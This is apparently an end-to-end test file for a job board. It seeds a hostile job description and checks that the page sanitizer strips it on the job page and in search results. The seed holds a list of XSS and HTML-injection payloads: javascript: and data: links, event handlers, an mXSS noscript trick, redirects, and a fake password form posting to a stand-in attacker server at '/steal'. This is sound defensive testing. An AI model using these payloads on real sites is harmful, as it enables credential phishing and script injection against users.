// A job description written to attack the reader: styles, forms, frames, a remote image,
// SVG, event handlers and javascript: links, straight from the database. On the job page
// and in the search results none of it is present, none of it loads, none of it runs.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { insertJobs } from '../test/support/jobs.js';
import { DESKTOP } from './support/browser.js';
import { jobCard } from './support/pages.js';
import { useBrowserStack } from './support/browser-stack.js';

/** Stands in for a server the attacker controls: it counts what the page asks of it. */
let remote: Server | undefined;
const remoteHits: string[] = [];
let remoteUrl = '';

function hostileDescription(host: string): string {
  return [
    '<h2>Responsibilities</h2>',
    '<p>Ship <strong>reliable</strong> and <em>fast</em> services.</p>',
    '<ul><li>Own the payments API</li><li>Mentor engineers</li></ul>',
    '<style>body { display: none } .rich-text { background: red }</style>',
    `<link rel="stylesheet" href="${host}/theme.css">`,
    `<form action="${host}/steal" method="post"><label>Password <input name="password" type="password"></label><button>Sign in again</button></form>`,
    `<iframe src="${host}/frame" width="400" height="300"></iframe>`,
    `<img src="${host}/pixel.png" alt="tracker">`,
    `<picture><source srcset="${host}/source.png"><img src="${host}/picture.png"></picture>`,
    `<object data="${host}/object"></object><embed src="${host}/embed">`,
    `<video poster="${host}/poster.png"><source src="${host}/video.mp4" onerror="alert('video')"></video>`,
    `<svg width="10" height="10" onload="alert('svg')"><image href="${host}/svg-image.png"/><circle r="5"/></svg>`,
    `<math><mtext><a href="javascript:alert('math')">math link</a></mtext></math>`,
    `<p onclick="alert('click')" style="position:fixed;inset:0;background:url(${host}/bg.png)">Click anywhere</p>`,
    '<div onmouseover="alert(\'hover\')">Hover me</div>',
    '<details open ontoggle="alert(\'toggle\')"><summary>More</summary>Details text</details>',
    '<a href="javascript:alert(\'link\')">Learn more</a>',
    '<a href=" JaVaScRiPt:alert(\'mixed\')">Learn even more</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Data link</a>',
    '<a href="https://jobs.example.com/apply" onmouseover="alert(\'a\')" style="color:red" target="_self">Apply here</a>',
    '<a href="mailto:jobs@example.com">Email us</a>',
    `<noscript><p title="</noscript><img src=${host}/mxss.png onerror=alert('mxss')>"></noscript>`,
    `<base href="${host}/"><meta http-equiv="refresh" content="0;url=${host}/redirect">`,
    '<script>alert("script")</script>',
  ].join('\n');
}

const ids: { hostile?: string } = {};

async function seed(databaseUrl: string) {
  remote = createServer((req, res) => {
    remoteHits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  await new Promise<void>((resolve) => remote!.listen(0, '127.0.0.1', resolve));
  remoteUrl = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;
  [ids.hostile] = await insertJobs(databaseUrl, [
    { title: 'Payments Platform Engineer', company: 'Trapdoor Inc', description: hostileDescription(remoteUrl) },
  ]);
}

afterAll(() => new Promise<void>((resolve) => (remote ? remote.close(() => resolve()) : resolve())));

/** A page that records dialogs and every request it makes to the attacker's server. */
async function openWatched(
  ctx: ReturnType<typeof useBrowserStack>,
): Promise<{ page: Page; dialogs: string[]; asked: string[] }> {
  const page = await ctx.browser.newPage({ viewport: DESKTOP });
  const dialogs: string[] = [];
  const asked: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().startsWith(remoteUrl)) asked.push(request.url());
  });
  return { page, dialogs, asked };
}

const ALLOWED = new Set([
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'P',
  'BR',
  'UL',
  'OL',
  'LI',
  'STRONG',
  'EM',
  'B',
  'I',
  'A',
]);

describe('a hostile job description', () => {
  const ctx = useBrowserStack({ seed });

  it('keeps only headings, paragraphs, lists, emphasis and http(s)/mailto links on the job page: nothing loads, nothing runs', async () => {
    const { page, dialogs, asked } = await openWatched(ctx);
    await page.goto(`${ctx.stack.baseUrl}/job/${ids.hostile}`);
    const description = page.locator('.job-details__description .rich-text');
    await expect.poll(() => description.getByText('Own the payments API').isVisible()).toBe(true);

    // What the description was for stays: a heading, the list, the emphasis, the safe links.
    expect(await description.getByRole('heading', { name: 'Responsibilities' }).isVisible()).toBe(true);
    expect(await description.locator('strong', { hasText: 'reliable' }).count()).toBe(1);
    const apply = description.getByRole('link', { name: 'Apply here' });
    expect(await apply.getAttribute('href')).toBe('https://jobs.example.com/apply');
    expect(await apply.getAttribute('target')).toBe('_blank');
    expect(await apply.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await description.getByRole('link', { name: 'Email us' }).getAttribute('href')).toBe(
      'mailto:jobs@example.com',
    );

    // Nothing else: every element is of an allowed kind, with no attribute but a link's.
    const elements = await description
      .locator('*')
      .evaluateAll((nodes) => nodes.map((node) => ({ tag: node.tagName, attributes: node.getAttributeNames() })));
    expect(elements.filter((e) => !ALLOWED.has(e.tag))).toEqual([]);
    expect(elements.filter((e) => e.tag !== 'A' && e.attributes.length > 0)).toEqual([]);
    const hrefs = await description.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
    expect(hrefs).toEqual(['https://jobs.example.com/apply', 'mailto:jobs@example.com']);
    for (const name of ['Learn more', 'Learn even more', 'Data link'])
      expect(await description.getByText(name, { exact: true }).getAttribute('href')).toBeNull();
    expect(await page.locator('input[type=password], iframe, img, object, embed, video').count()).toBe(0);
    expect(await page.locator('.job-details__description').locator('svg, style, form').count()).toBe(0);
    expect(await page.locator('body').isVisible()).toBe(true);

    // Try what a reader might do.
    await description.getByText('Hover me').hover();
    await description.getByText('Click anywhere').click();
    await description.getByText('Learn more', { exact: true }).click();
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(asked).toEqual([]);
    expect(remoteHits).toEqual([]);
    await page.close();
  });

  it('shows it in the search results as plain text, loading nothing', async () => {
    const { page, dialogs, asked } = await openWatched(ctx);
    await page.goto(`${ctx.stack.baseUrl}/search?q=${encodeURIComponent('Payments Platform Engineer')}`);
    const card = jobCard(page, 'Payments Platform Engineer');
    await expect.poll(() => card.locator('.job-card__description').textContent()).toContain('Responsibilities');
    expect(await card.locator('img, iframe, svg, form, style').count()).toBe(0);
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(asked).toEqual([]);
    expect(remoteHits).toEqual([]);
    await page.close();
  });
});
